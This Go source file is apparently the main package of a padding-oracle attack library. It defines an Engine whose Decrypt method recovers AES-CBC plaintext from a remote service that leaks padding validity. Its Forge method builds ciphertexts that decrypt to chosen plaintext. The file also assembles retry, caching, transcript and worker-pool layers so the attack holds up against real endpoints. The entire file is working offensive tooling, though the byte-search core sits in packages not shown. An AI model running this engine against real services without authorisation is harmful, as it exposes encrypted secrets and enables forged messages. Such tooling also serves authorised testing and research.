// Package padoracle recovers AES-CBC plaintext from a remote service
// that reveals nothing but whether a submitted ciphertext decrypts to
// valid PKCS#7 padding. The caller supplies the ciphertext and an
// oracle.Transport; the engine does the rest: per-byte search,
// disambiguation of coincidental hits, retries over a flaky channel,
// and padding removal.
package padoracle

import (
	"context"
	"fmt"
	"log/slog"

	"github.com/sirupsen/logrus"

	"github.com/nullmass/padoracle/internal/querycache"
	"github.com/nullmass/padoracle/internal/recovery"
	"github.com/nullmass/padoracle/internal/transcript"
	"github.com/nullmass/padoracle/internal/transport"
	"github.com/nullmass/padoracle/pkg/oracle"
	"github.com/nullmass/padoracle/pkg/pkcs7"
	"github.com/nullmass/padoracle/pkg/workerpool"
)

// BytePos identifies an unrecovered plaintext byte: the ciphertext
// block (1-based, block 0 being the IV) and the byte offset within it.
type BytePos = recovery.BytePos

// DecryptResult is always best-effort: even when bytes could not be
// recovered, Plaintext holds everything that could, with 0x00 in the
// positions listed in Unresolved. PaddingVerified reports whether the
// trailing PKCS#7 pad was consistent and stripped.
type DecryptResult struct {
	Plaintext       []byte
	PaddingVerified bool
	Unresolved      []BytePos
	Queries         uint64
}

// Engine is the attack entry point. One Engine can run any number of
// attacks; each Decrypt call is an independent session.
type Engine struct {
	log    *slog.Logger
	config Config
}

// New validates the configuration and returns an Engine. No I/O
// happens until Decrypt or Forge is called.
func New(config Config) (*Engine, error) {
	if config.CachePath != "" && config.InMemoryCache {
		return nil, fmt.Errorf("padoracle: CachePath and InMemoryCache are mutually exclusive")
	}
	if config.Logger == nil {
		config.Logger = defaultLogger()
	}
	return &Engine{log: config.Logger, config: config}, nil
}

// Decrypt attacks ciphertext (IV plus at least one block) through t.
// Per-byte failures are surfaced in the result, not as errors; the
// error return is reserved for malformed input and an exhausted
// transport.
func (e *Engine) Decrypt(ctx context.Context, ciphertext []byte, t oracle.Transport) (DecryptResult, error) {
	if len(ciphertext)%oracle.BlockSize != 0 || len(ciphertext) < 2*oracle.BlockSize {
		return DecryptResult{}, oracle.ErrInvalidLength
	}

	session, err := e.newSession(t)
	if err != nil {
		return DecryptResult{}, err
	}
	defer session.close()

	res, err := session.chain.Run(ctx, ciphertext)

	out := DecryptResult{
		Unresolved: res.Unresolved,
		Queries:    res.Queries,
	}
	out.Plaintext, out.PaddingVerified = pkcs7.Strip(res.Plaintext)
	if err != nil {
		return out, fmt.Errorf("padoracle: %w", err)
	}
	return out, nil
}

// Forge builds a ciphertext that decrypts to plaintext under the
// oracle's key, the encryption dual of Decrypt.
func (e *Engine) Forge(ctx context.Context, plaintext []byte, t oracle.Transport) ([]byte, error) {
	session, err := e.newSession(t)
	if err != nil {
		return nil, err
	}
	defer session.close()

	forged, err := session.chain.Forge(ctx, plaintext)
	if err != nil {
		return nil, fmt.Errorf("padoracle: %w", err)
	}
	return forged, nil
}

// session is the per-attack state: the assembled transport stack and
// everything that needs closing afterwards. Nothing survives between
// sessions except the optional on-disk cache contents.
type session struct {
	chain  *recovery.Chain
	cache  *querycache.Cache
	script *transcript.Writer
	pool   *workerpool.Pool
}

func (e *Engine) newSession(t oracle.Transport) (*session, error) {
	s := &session{}

	// Stack order matters: retries sit closest to the wire so the
	// transcript records settled outcomes, and the cache sits on top so
	// replayed verdicts skip both.
	stacked := oracle.Transport(transport.NewRetrier(t, transport.RetryConfig{
		Attempts:  e.config.RetryAttempts,
		BaseDelay: e.config.RetryBaseDelay,
		Logger:    e.log,
	}))

	if e.config.TranscriptPath != "" {
		w, err := transcript.New(e.config.TranscriptPath)
		if err != nil {
			return nil, fmt.Errorf("padoracle: %w", err)
		}
		s.script = w
		stacked = w.Wrap(stacked)
	}

	if e.config.CachePath != "" || e.config.InMemoryCache {
		cacheLog := logrus.New()
		cacheLog.SetLevel(logrus.WarnLevel)
		c, err := querycache.Open(querycache.Config{
			Path:     e.config.CachePath,
			InMemory: e.config.InMemoryCache,
			Logger:   cacheLog,
		})
		if err != nil {
			s.close()
			return nil, fmt.Errorf("padoracle: %w", err)
		}
		s.cache = c
		stacked = c.Wrap(stacked)
	}

	if e.config.GuessWorkers > 1 {
		s.pool = workerpool.New(workerpool.Config{
			WorkerCount:  e.config.GuessWorkers,
			GlobalBuffer: 1024,
		})
	}

	s.chain = recovery.NewChain(recovery.Config{
		Transport:      stacked,
		Logger:         e.log,
		Pool:           s.pool,
		ParallelBlocks: e.config.ParallelBlocks,
	})
	return s, nil
}

func (s *session) close() {
	if s.pool != nil {
		s.pool.Close()
	}
	if s.cache != nil {
		s.cache.Close()
	}
	if s.script != nil {
		s.script.Close()
	}
}
